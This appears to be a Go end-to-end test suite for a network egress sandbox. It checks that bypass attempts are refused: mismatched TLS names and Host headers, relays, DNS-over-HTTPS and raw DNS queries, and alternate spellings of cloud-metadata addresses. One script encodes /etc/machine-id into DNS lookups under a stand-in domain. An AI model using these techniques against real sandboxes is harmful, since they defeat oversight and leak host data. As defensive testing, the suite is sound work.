//go:build root

package e2e

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/cofferdam/cofferdam/internal/task"
)

// attack is a script that tries what must not work.
type attack struct {
	name   string
	script string
	want   string // the program inside reads it; empty: no matter what
	reason task.Reason
	ways   string // where it can be seen; empty: both
}

// nameTricks make the names that a connection says of itself disagree (B01).
func nameTricks() []attack {
	return []attack{
		{"another name in the ClientHello", tlsSays("never.test", "GET / HTTP/1.1\\r\\nHost: never.test\\r\\n\\r\\n"), "policy.name_mismatch", task.PolicyNameMismatch, ""},
		{"no name in the ClientHello", tlsSays("", "GET / HTTP/1.1\\r\\nHost: far.test:@PORT@\\r\\n\\r\\n"), "policy.name_mismatch", task.PolicyNameMismatch, ""},
		{"a name beneath in the ClientHello", tlsSays("x.far.test", "GET / HTTP/1.1\\r\\nHost: far.test:@PORT@\\r\\n\\r\\n"), "policy.name_mismatch", task.PolicyNameMismatch, ""},
		{"another Host", tlsSays("far.test", "GET / HTTP/1.1\\r\\nHost: never.test\\r\\n\\r\\n"), "policy.name_mismatch", task.PolicyNameMismatch, intercepted},
		{"another port in Host", tlsSays("far.test", "GET / HTTP/1.1\\r\\nHost: far.test:1\\r\\n\\r\\n"), "policy.name_mismatch", task.PolicyNameMismatch, intercepted},
		{"two Hosts", tlsSays("far.test", "GET / HTTP/1.1\\r\\nHost: far.test:@PORT@\\r\\nHost: never.test\\r\\n\\r\\n"), "policy.protocol", task.PolicyProtocol, intercepted},
		{"an absolute target of another host", tlsSays("far.test", "GET https://never.test/ HTTP/1.1\\r\\nHost: far.test:@PORT@\\r\\n\\r\\n"), "policy.protocol", task.PolicyProtocol, intercepted},
		{"CONNECT within", tlsSays("far.test", "CONNECT never.test:443 HTTP/1.1\\r\\nHost: never.test:443\\r\\n\\r\\n"), "policy.protocol", task.PolicyProtocol, intercepted},
		{"another authority over HTTP/2", `curl -sS --http2 -H 'Host: never.test' FAR/trick`, "policy.name_mismatch", task.PolicyNameMismatch, intercepted},
		{"another Host in plain", `curl -sS -H 'Host: never.test' PLAIN/trick`, "policy.name_mismatch", task.PolicyNameMismatch, ""},
		{"CONNECT in plain", `curl -sS -p -x PLAIN https://never.test/trick -o /dev/null -w '%{http_connect}'`, "403", task.PolicyProtocol, ""},
		{"a literal address", `curl -sS -m 20 -k https://203.0.113.9/`, "policy.denied", task.PolicyDenied, ""},
		{"a literal address with the allowed name", `curl -sS -m 20 -k --connect-to far.test:443:203.0.113.9:443 https://far.test/`, "policy.denied", task.PolicyDenied, ""},
		{"an allowed name on another port", `curl -sS -m 20 -k https://far.test/trick`, "policy.denied", task.PolicyDenied, ""},
	}
}

// tlsSays speaks TLS to the allowed address with a name of its own choice.
func tlsSays(sni, request string) string {
	name := "None"
	if sni != "" {
		name = `"` + sni + `"`
	}
	return `/usr/bin/python3 -c '
import socket, ssl
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
s = socket.create_connection(("far.test", @PORT@)); s.settimeout(30)
s = c.wrap_socket(s, server_hostname=` + name + `)
s.sendall(b"` + request + `")
print(s.recv(99999))'`
}

// Names that disagree are refused with a reason, on the record, and neither the
// server nor a name server learns of it (B01).
func TestNamesThatDisagree(t *testing.T) {
	c := newClients(t)
	for _, way := range []string{spliced, intercepted} {
		b := c.farBox(t, way)
		for _, a := range nameTricks() {
			if a.ways != "" && a.ways != way {
				continue
			}
			t.Run(a.name+" "+way, func(t *testing.T) {
				c.far.took()
				out, _, records := b.run(t, a.name, a.script)
				if !strings.Contains(out, a.want) || strings.Contains(out, "far says") {
					t.Errorf("prints %q; want %q", out, a.want)
				}
				if !slices.ContainsFunc(refusals(records), func(r task.EgressRecord) bool { return r.Reason == a.reason }) {
					t.Errorf("no refusal for %s: %+v", a.reason, records)
				}
				if seen := c.far.took(); len(seen) != 0 {
					t.Errorf("the server saw %+v", seen)
				}
			})
		}
		t.Run("second request "+way, func(t *testing.T) { b.secondRequest(t) })
	}
	if asked := c.names.Asked("never.test"); len(asked) != 0 {
		t.Errorf("looked up: %q", asked)
	}
}

// secondRequest: on a connection that was fine once, another Host is refused,
// and so is all that follows.
func (b *box) secondRequest(t *testing.T) {
	urls := map[string]string{intercepted: "FAR PLAIN", spliced: "PLAIN"}[b.way]
	for url := range strings.FieldsSeq(urls) {
		b.c.far.took()
		out, _, _ := b.run(t, "second", strings.ReplaceAll(`/usr/bin/python3 -c '
import http.client, ssl, urllib.parse as p
u = p.urlsplit("URL")
c = http.client.HTTPSConnection(u.hostname, u.port) if u.scheme == "https" else http.client.HTTPConnection(u.hostname, u.port)
for host in (u.netloc, "never.test", u.netloc):
    try:
        c.request("GET", "/second", headers={"Host": host}); r = c.getresponse(); print(r.status, r.read())
        c.auto_open = 0
    except Exception as e: print("over", type(e).__name__)'`, "URL", url))
		if n := len(b.c.far.took()); n != 1 || !strings.Contains(out, "200") || !strings.Contains(out, "policy.name_mismatch") || !strings.Contains(out, "over") {
			t.Errorf("%s: the server saw %d requests; prints %q", url, n, out)
		}
	}
}

// A relay inside changes nothing, and under load each connection is decided as
// if it were alone (B02).
func TestRelaysInside(t *testing.T) {
	c := newClients(t)
	b := c.farBox(t, spliced)
	c.far.took()
	out, _, records := b.run(t, "relay", `cat >relay.py <<'X'
import socket, threading
def pump(a, b):
    try:
        while d := a.recv(65536): b.sendall(d)
    except OSError: pass
    try: b.shutdown(socket.SHUT_WR)
    except OSError: pass
def relay(to):
    l = socket.create_server(("127.0.0.1", 0))
    def accept():
        while True:
            a, _ = l.accept()
            try: b = socket.create_connection(to)
            except OSError: a.close(); continue
            threading.Thread(target=pump, args=(a, b), daemon=True).start()
            threading.Thread(target=pump, args=(b, a), daemon=True).start()
    threading.Thread(target=accept, daemon=True).start()
    return l.getsockname()[1]
X
cat >try.py <<'X'
import subprocess, concurrent.futures as f
from relay import relay
def curl(*args): return subprocess.run(["curl", "-sS", "-m", "60", *args], capture_output=True, text=True).stdout
never, far, plain = relay(("never.test", 443)), relay(("far.test", @PORT@)), relay(("far.test", @HTTP@))
print("1", curl("-k", "--connect-to", "never.test:443:127.0.0.1:%d" % never, "https://never.test/relayed"))
print("2", curl("-k", "--connect-to", "never.test:443:127.0.0.1:%d" % far, "https://never.test/relayed"))
print("3", curl("-p", "-x", "http://127.0.0.1:%d" % plain, "https://never.test/relayed", "-o", "/dev/null", "-w", "%{http_connect}"))
print("4", curl("-H", "Host: never.test", "http://127.0.0.1:%d/relayed" % plain))
print("5", curl("--connect-to", "far.test:@PORT@:127.0.0.1:%d" % far, "FAR/allowed"))
def one(i):
    if i % 2: return curl("FAR/mixed")
    return curl("-k", "--connect-to", "never.test:443:127.0.0.1:%d" % (never if i % 4 else far), "https://never.test/mixed")
with f.ThreadPoolExecutor(20) as pool: got = list(pool.map(one, range(200)))
print("allowed", sum("far says" in g for g in got), "refused", sum("policy." in g for g in got))
X
/usr/bin/python3 try.py`)
	for _, want := range []string{"1 {", "2 {", "3 403", "4 {", "5 far says GET /allowed", "allowed 100 refused 100"} {
		if !strings.Contains(out, want) {
			t.Errorf("prints %q; want %q", out, want)
		}
	}
	for _, s := range c.far.took() {
		if s.path != "/allowed" && s.path != "/mixed" || !s.secure {
			t.Errorf("the server saw %+v", s)
		}
	}
	for _, r := range records {
		if r.Name == "never.test" && r.Verdict == "allowed" {
			t.Errorf("allowed: %+v", r)
		}
	}
	if asked := c.names.Asked("never.test"); len(asked) != 0 {
		t.Errorf("looked up: %q", asked)
	}
}

// Ways of asking for a name that leave no query, whoever is asked (B04).
func TestNamesAreNoExitByOtherProtocols(t *testing.T) {
	c := newClients(t)
	b := c.farBox(t, intercepted)
	out, _, records := b.run(t, "names", `s=$(od -An -tx1 -N8 /etc/machine-id | tr -d ' \n')
for to in https://1.1.1.1/dns-query https://8.8.8.8/dns-query https://dns.google/dns-query http://9.9.9.9/dns-query; do curl -sS -k -m 20 "$to?name=$s.never.test&type=A"; done
curl -sS -m 20 -x http://$s.never.test:80 http://far.test/; curl -sS -m 20 http://$s.never.test./; curl -sS -m 20 --resolve x.never.test:80:198.18.0.1 http://x.never.test/
/usr/bin/python3 - $s <<'P'
import socket, struct, sys
def query(name, kind):
    b = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b + struct.pack(">HH", kind, 1)
def tcp(to, port, kind):
    s = socket.socket(); s.settimeout(20)
    try:
        s.connect((to, port)); q = query("%s.t%d.never.test" % (sys.argv[1], kind), kind); s.sendall(struct.pack(">H", len(q)) + q)
        a = s.recv(4096)
        print(to, port, kind, "answers" if len(a) > 6 and a[9] else "nothing")
    except OSError as e: print(to, port, kind, "refused")
for kind in (1, 28, 16, 65, 12, 33, 255):
    tcp("198.18.0.1", 53, kind)
    for to, port in (("8.8.8.8", 53), ("1.1.1.1", 853), ("9.9.9.9", 853)): tcp(to, port, kind)
for to in ("8.8.8.8", "224.0.0.251", "255.255.255.255", "198.18.0.1"):
    for port in (53, 5353, 5355, 137, 443):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try: s.sendto(query(sys.argv[1] + ".u.never.test", 1), (to, port))
        except OSError: pass
P`)
	// Only the gateway answers, whatever the kind; nobody else is reached.
	if strings.Count(out, "198.18.0.1 53 ") != 7 || strings.Count(out, " refused\n") != 21 || strings.Count(out, "policy.denied") != 7 {
		t.Errorf("prints %q", out)
	}
	for _, r := range records {
		if r.Verdict == "allowed" {
			t.Errorf("allowed: %+v", r)
		}
	}
	if asked := c.names.Asked("never.test"); len(asked) != 0 {
		t.Errorf("%d queries left: %q", len(asked), asked)
	}
	if asked := c.names.Asked("dns.google"); len(asked) != 0 {
		t.Errorf("looked up: %q", asked)
	}
}

// IPv6 and the other spellings of addresses are no side door, even where the
// policy names them (B05, B06).
func TestSpellingsOfAddresses(t *testing.T) {
	c := newClients(t)
	literals := []string{
		"169.254.169.254", "169.254.169.253", "169.254.170.23", "100.100.100.200", "192.0.0.192", "168.63.129.16", "127.0.0.1", "0.0.0.0", "224.0.0.1", "255.255.255.255",
		"fd00:ec2::254", "fd20:ce::254", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "::169.254.169.254", "fe80::1", "fd00::1", "::1", "ff02::1",
	}
	var rules strings.Builder
	for _, a := range literals {
		fmt.Fprintf(&rules, "      - {host: '%s', ports: [80, 443, %d]}\n", a, c.far.plain)
	}
	b := c.box(t, spliced, rules.String())
	var urls strings.Builder
	for _, a := range append(literals, "0251.0376.0251.0376", "169.254.43518", "0xa9.254.0xa9fe", "::ffff:a9fe:a9fe", "127.1", "0", "fe80::1%25eth0") {
		host := a
		if strings.Contains(a, ":") {
			host = "[" + a + "]"
		}
		fmt.Fprintf(&urls, " 'http://%s/' 'https://%s/' 'http://%s:@HTTP@/'", host, host, host)
	}
	out, _, records := b.run(t, "addresses", "curl -sS -k -g -m 20 --connect-timeout 4 -Z"+urls.String()+"; ping -c 1 -W 1 fd00::1 2>&1; ping -6 -c 1 -W 1 fe80::1 2>&1; echo end")
	if strings.Contains(out, "far says") || !strings.HasSuffix(strings.TrimSpace(out), "end") || strings.Contains(out, " 0% packet loss") {
		t.Errorf("prints %q", out)
	}
	for _, r := range records {
		if r.Verdict == "allowed" {
			t.Errorf("allowed: %+v", r)
		}
	}
	if len(refusals(records)) == 0 {
		t.Error("no refusal is on record")
	}
	if seen := c.far.took(); len(seen) != 0 {
		t.Errorf("the server saw %+v", seen)
	}
}
